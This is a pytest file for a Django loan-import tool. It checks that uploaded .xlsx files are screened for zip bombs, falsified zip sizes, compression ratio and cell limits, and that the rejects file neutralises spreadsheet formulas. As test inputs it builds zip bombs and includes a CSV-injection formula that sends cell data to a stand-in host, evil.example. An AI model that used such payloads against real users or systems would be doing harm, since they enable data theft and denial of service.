"""Hostile spreadsheets: an .xlsx is inspected before it is parsed (size inflated, compression
ratio, members, cells), and the rejects file cannot be made huge or carry live formulas."""

from __future__ import annotations

import time
import zipfile
from pathlib import Path

import openpyxl
import pytest

from autocollect.portfolio.importers import ImportFileError, import_loans
from autocollect.portfolio.importers.loan_rows import LOAN_COLUMNS
from autocollect.portfolio.importers.readers import read_source
from tests.portfolio.import_fixtures import loan_row, read_rejects, table_counts, write_csv

pytestmark = pytest.mark.django_db

COLUMNS = ["name", "amount", "day"]

_CONTENT_TYPES = (
    '<?xml version="1.0" encoding="UTF-8" standalone="yes"?>'
    '<Types xmlns="http://schemas.openxmlformats.org/package/2006/content-types">'
    '<Default Extension="rels" '
    'ContentType="application/vnd.openxmlformats-package.relationships+xml"/>'
    '<Default Extension="xml" ContentType="application/xml"/>'
    '<Override PartName="/xl/workbook.xml" ContentType="application/vnd.openxmlformats-'
    'officedocument.spreadsheetml.sheet.main+xml"/>'
    '<Override PartName="/xl/worksheets/sheet1.xml" ContentType="application/vnd.openxmlformats-'
    'officedocument.spreadsheetml.worksheet+xml"/>'
    "</Types>"
)
_RELS = (
    '<?xml version="1.0" encoding="UTF-8" standalone="yes"?>'
    '<Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships">'
    '<Relationship Id="rId1" Type="http://schemas.openxmlformats.org/officeDocument/2006/'
    'relationships/officeDocument" Target="xl/workbook.xml"/></Relationships>'
)
_WORKBOOK = (
    '<?xml version="1.0" encoding="UTF-8" standalone="yes"?>'
    '<workbook xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main" '
    'xmlns:r="http://schemas.openxmlformats.org/officeDocument/2006/relationships">'
    '<sheets><sheet name="Sheet1" sheetId="1" r:id="rId1"/></sheets></workbook>'
)
_WORKBOOK_RELS = (
    '<?xml version="1.0" encoding="UTF-8" standalone="yes"?>'
    '<Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships">'
    '<Relationship Id="rId1" Type="http://schemas.openxmlformats.org/officeDocument/2006/'
    'relationships/worksheet" Target="worksheets/sheet1.xml"/></Relationships>'
)
_SHEET_HEAD = (
    '<?xml version="1.0" encoding="UTF-8" standalone="yes"?>'
    '<worksheet xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main"><sheetData>'
    '<row r="1"><c r="A1" t="inlineStr"><is><t>name</t></is></c>'
    '<c r="B1" t="inlineStr"><is><t>amount</t></is></c>'
    '<c r="C1" t="inlineStr"><is><t>day</t></is></c></row>'
)
_SHEET_TAIL = "</sheetData></worksheet>"


def _xlsx(path: Path, body_chunks, *, level: int = 1) -> Path:
    """A minimal workbook whose one sheet is the header row plus ``body_chunks`` (XML text),
    streamed into the zip so that a huge sheet never sits in the test's memory."""
    with zipfile.ZipFile(path, "w", zipfile.ZIP_DEFLATED, compresslevel=level) as archive:
        archive.writestr("[Content_Types].xml", _CONTENT_TYPES)
        archive.writestr("_rels/.rels", _RELS)
        archive.writestr("xl/workbook.xml", _WORKBOOK)
        archive.writestr("xl/_rels/workbook.xml.rels", _WORKBOOK_RELS)
        with archive.open("xl/worksheets/sheet1.xml", "w", force_zip64=True) as sheet:
            sheet.write(_SHEET_HEAD.encode())
            for chunk in body_chunks:
                sheet.write(chunk.encode())
            sheet.write(_SHEET_TAIL.encode())
    return path


def _rows(first: int, count: int) -> str:
    return "".join(
        f'<row r="{n}"><c r="A{n}" t="inlineStr"><is><t>x</t></is></c>'
        f'<c r="B{n}"><v>1</v></c><c r="C{n}" t="inlineStr"><is><t>2024-01-01</t></is></c></row>'
        for n in range(first, first + count)
    )


def _read(path: Path):
    return read_source(path, required=COLUMNS)


def _limits(settings, **values: int) -> None:
    settings.AUTOCOLLECT = {**settings.AUTOCOLLECT, "IMPORT_LIMITS": values}


def test_a_zip_bomb_is_refused_before_it_is_parsed(tmp_path: Path) -> None:
    # ~120 MB of the same row, deflated to well under 1 MB: with the default limits it is
    # refused from the zip's directory, without inflating it.
    block = (
        '<row><c t="inlineStr"><is><t>AAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAA</t></is></c></row>'
        * 1000
    )
    path = _xlsx(tmp_path / "bomb.xlsx", (block for _ in range(1_600)))
    assert path.stat().st_size < 2 * 1024 * 1024

    started = time.perf_counter()
    with pytest.raises(ImportFileError, match=r"XLSX_MAX_BYTES|XLSX_MAX_RATIO") as refused:
        _read(path)
    assert time.perf_counter() - started < 5
    assert "refused before reading" in str(refused.value)


def test_sizes_are_counted_while_inflating_not_taken_from_the_directory(tmp_path: Path) -> None:
    # The zip claims its worksheet inflates to 1,000 bytes; it inflates to about 5 MB.
    block = "<row><c><v>1</v></c></row>" * 10_000
    path = _xlsx(tmp_path / "liar.xlsx", (block for _ in range(20)), level=9)
    data = bytearray(path.read_bytes())
    name = b"xl/worksheets/sheet1.xml"
    for signature, size_at in ((b"PK\x03\x04", 22), (b"PK\x01\x02", 24)):
        at = _header_of(data, signature, name)
        data[at + size_at : at + size_at + 4] = (1_000).to_bytes(4, "little")
    path.write_bytes(bytes(data))
    with zipfile.ZipFile(path) as archive:
        assert archive.getinfo(name.decode()).file_size == 1_000

    with pytest.raises(ImportFileError, match="XLSX_MAX_RATIO"):
        _read(path)


def _header_of(data: bytearray, signature: bytes, name: bytes) -> int:
    """Offset of the local (PK 3 4) or central (PK 1 2) header of the member ``name``."""
    name_at = 30 if signature == b"PK\x03\x04" else 46
    at = data.find(signature)
    while at != -1:
        if data[at + name_at : at + name_at + len(name)] == name:
            return at
        at = data.find(signature, at + 4)
    raise AssertionError(f"no header for {name!r}")


def test_a_highly_compressed_member_is_refused_by_its_ratio(tmp_path: Path) -> None:
    block = "<row><c><v>1</v></c></row>" * 10_000
    path = _xlsx(tmp_path / "ratio.xlsx", (block for _ in range(20)), level=9)  # ~5 MB

    with pytest.raises(ImportFileError, match=r"compression ratio|压缩比"):
        _read(path)


def test_the_size_limits_are_settings(settings, tmp_path: Path) -> None:
    path = _xlsx(tmp_path / "rows.xlsx", [_rows(2, 2_000)])
    assert len(_read(path)) == 2_000

    _limits(settings, XLSX_MAX_BYTES=100_000)
    with pytest.raises(ImportFileError, match="XLSX_MAX_BYTES"):
        _read(path)
    _limits(settings, XLSX_MAX_MEMBER_BYTES=100_000)
    with pytest.raises(ImportFileError, match="XLSX_MAX_MEMBER_BYTES"):
        _read(path)
    _limits(settings, XLSX_MAX_MEMBERS=3)
    with pytest.raises(ImportFileError, match="XLSX_MAX_MEMBERS"):
        _read(path)


def test_the_cell_limit_counts_the_cells_of_the_sheet(settings, tmp_path: Path) -> None:
    path = _xlsx(tmp_path / "cells.xlsx", [_rows(2, 100)])  # 101 rows × 3 columns
    assert len(_read(path)) == 100

    _limits(settings, XLSX_MAX_CELLS=300)
    with pytest.raises(ImportFileError, match="XLSX_MAX_CELLS") as refused:
        _read(path)
    assert "300" in str(refused.value)


def test_two_cells_far_apart_are_refused_as_the_whole_range_they_span(tmp_path: Path) -> None:
    # A sheet is read as the rectangle its cells span: A1 … XFD1048576 is 17 billion cells
    # although the file holds four.
    far = '<row r="1048576"><c r="XFD1048576"><v>1</v></c></row>'
    path = _xlsx(tmp_path / "sparse.xlsx", [far])

    with pytest.raises(ImportFileError, match="XLSX_MAX_CELLS"):
        _read(path)


def test_a_normal_workbook_is_read(tmp_path: Path) -> None:
    path = tmp_path / "normal.xlsx"
    workbook = openpyxl.Workbook()
    sheet = workbook.active
    sheet.append(COLUMNS)
    for n in range(50):
        sheet.append([f"name {n}", n, "2024-01-01"])
    workbook.save(path)

    assert len(_read(path)) == 50


# The rejects file -------------------------------------------------------------------------


@pytest.fixture
def rejects_dir(settings, tmp_path: Path) -> Path:
    folder = tmp_path / "rejects"
    settings.AUTOCOLLECT = {**settings.AUTOCOLLECT, "REJECTS_DIR": folder}
    return folder


def test_the_rejects_file_is_capped_and_says_how_many_more(
    settings, rejects_dir: Path, tmp_path: Path
) -> None:
    _limits(settings, REJECTS_MAX_ROWS=3, REJECTS_MAX_CELL=50)
    long = "长" * 5_000
    rows = [loan_row(n, contract_no="", borrower_name=long) for n in range(10)]
    path = write_csv(tmp_path / "bad.csv", rows)

    result = import_loans(path, actor="test")

    assert result.rejected == 10
    written = read_rejects(str(result.rejects_file))
    assert len(written) == 4  # three rows and the line that says what was left out
    assert all(len(row["borrower_name"]) <= 50 for row in written[:3])
    assert written[0]["borrower_name"].startswith("长" * 40)
    assert "7" in written[3]["error"]
    assert set(written[3][c] for c in LOAN_COLUMNS) == {""}
    assert table_counts()["Loan"] == 0


def test_the_rejects_file_neutralises_formulas_and_keeps_numbers(
    rejects_dir: Path, tmp_path: Path
) -> None:
    formula = '=HYPERLINK("http://evil.example/?d="&A1,"点击")'
    row = loan_row(1, contract_no="", borrower_name=formula, principal="-12.50")
    path = write_csv(tmp_path / "formula.csv", [row])

    result = import_loans(path, actor="test")

    written = read_rejects(str(result.rejects_file))
    assert written[0]["borrower_name"] == "'" + formula
    assert written[0]["principal"] == "-12.50"


def test_a_neutralised_cell_reads_back_as_it_was_typed(tmp_path: Path) -> None:
    path = tmp_path / "back.csv"
    path.write_text("name,amount,day\n'=1+2,'-12.50,'plain\n", encoding="utf-8")

    table = _read(path)

    assert table.columns["name"] == ["=1+2"]
    assert table.columns["amount"] == ["-12.50"]
    assert table.columns["day"] == ["'plain"]
